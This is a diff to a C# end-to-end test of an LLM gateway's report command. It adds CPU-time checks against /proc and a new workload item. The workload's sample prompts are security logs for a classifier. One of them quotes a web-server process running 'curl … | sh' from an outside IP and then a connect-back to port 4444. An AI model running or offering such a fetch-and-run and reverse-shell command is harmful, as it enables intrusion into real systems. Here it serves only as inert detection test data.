@@ -21,6 +21,12 @@ public sealed class ReportEndToEndTests
     /// </summary>
     private const double PrefillCounterTolerance = 0.25;
 
+    /// <summary>
+    /// How far llama-server's CPU time by the gateway's samples may be from /proc's: /proc counts in 10 ms ticks, the
+    /// gateway in nanoseconds (schedstat or the cgroup's count), and /proc's run includes the quiet second.
+    /// </summary>
+    private const double CpuTolerance = 0.2;
+
     [Fact]
     public async Task Report_replays_a_workload_and_its_figures_agree_with_llama_servers_timings()
     {
@@ -35,19 +41,24 @@ public sealed class ReportEndToEndTests
                 """{"id":"short","messages":[{"role":"user","content":"sshd: Failed password for root from 10.0.0.9"}],"max_tokens":6,"expected":{"field":"verdict","value":"suspicious"}}""",
                 """{"id":"long","messages":[{"role":"user","content":"parent=apache2 user=www-data cmd=/bin/sh -c curl -fsSL http://203.0.113.50/x.sh | sh; parent=sh cmd=chmod +x /tmp/x; parent=sh cmd=/tmp/x -c 203.0.113.50:4444"}],"max_tokens":8}""",
                 """{"id":"third","messages":[{"role":"user","content":"proto=tcp dst=185.220.101.34:9001 process=/tmp/.x/kworker"}],"max_tokens":4,"expected":{"regex":"."}}""",
+                """{"id":"busy","messages":[{"role":"user","content":"Summarise the last hour of auth.log."}],"max_tokens":160,"ignore_eos":true}""",
             ]);
             var before = await LlamaCountersAsync(gateway);
             var output = Path.Combine(directory.FullName, "card.json");
 
+            // /proc, read independently of the gateway over the whole run, is what the report's CPU figures are checked against.
+            var reference = new Report.ProcessSampler(await gateway.ChildPidAsync(), gateway.Pid, TimeSpan.FromMilliseconds(100));
             var exit = await LlmgwApp.Create().RunAsync(
                 ["report", "--url", gateway.BaseUri.ToString(), "--workload", workload, "--idle-seconds", "1", "--format", "json", "--out", output]);
+            var proc = reference.Stop();
+            reference.Dispose();
 
             var after = await LlamaCountersAsync(gateway);
             // 0: every target met; 3: one missed (on a shared machine any may be). Anything else is an error of the tool.
             Assert.True(exit is 0 or 3, $"llmgw report exited with {exit}");
             using var card = JsonDocument.Parse(await File.ReadAllTextAsync(output));
             var root = card.RootElement;
-            Assert.Equal((3, 3, 0), (root.GetProperty("requests").GetInt32(), root.GetProperty("succeeded").GetInt32(), root.GetProperty("failed").GetInt32()));
+            Assert.Equal((4, 4, 0), (root.GetProperty("requests").GetInt32(), root.GetProperty("succeeded").GetInt32(), root.GetProperty("failed").GetInt32()));
 
             var results = root.GetProperty("results").EnumerateArray().ToList();
             long predicted = 0, prompt = 0;
@@ -91,6 +102,16 @@ public sealed class ReportEndToEndTests
             Assert.True(lines["latency p99/p50"].GetProperty("value").GetDouble() >= 1);
             Assert.Contains("not meaningful", lines["correctness"].GetProperty("note").GetString(), StringComparison.Ordinal);
             Assert.NotEmpty(root.GetProperty("activeSamples").EnumerateArray());
+
+            // The report's CPU comes from the gateway's sampler; over the same run, llama-server's CPU time by it agrees
+            // with /proc's count. Both cover the whole workload; the edges they differ by are idle, so totals compare well
+            // (mean percentages would not: the two intervals differ in length by up to a sample at each end).
+            var cores = Environment.ProcessorCount;
+            var interval = 0.1;
+            var byGateway = root.GetProperty("activeSamples").EnumerateArray().Sum(x => x.GetProperty("childPercent").GetDouble() / 100 * cores * interval);
+            var byProc = proc.Zip(proc.Skip(1)).Sum(p => p.Second.ChildPercent / 100 * cores * (p.Second.Seconds - p.First.Seconds));
+            Assert.True(byProc > 0.2, $"the workload should keep llama-server busy for a measurable time; /proc counted {byProc:0.000} CPU-s");
+            Assert.InRange(byGateway, (byProc * (1 - CpuTolerance)) - 0.05, (byProc * (1 + CpuTolerance)) + 0.05);
         }
         finally
         {
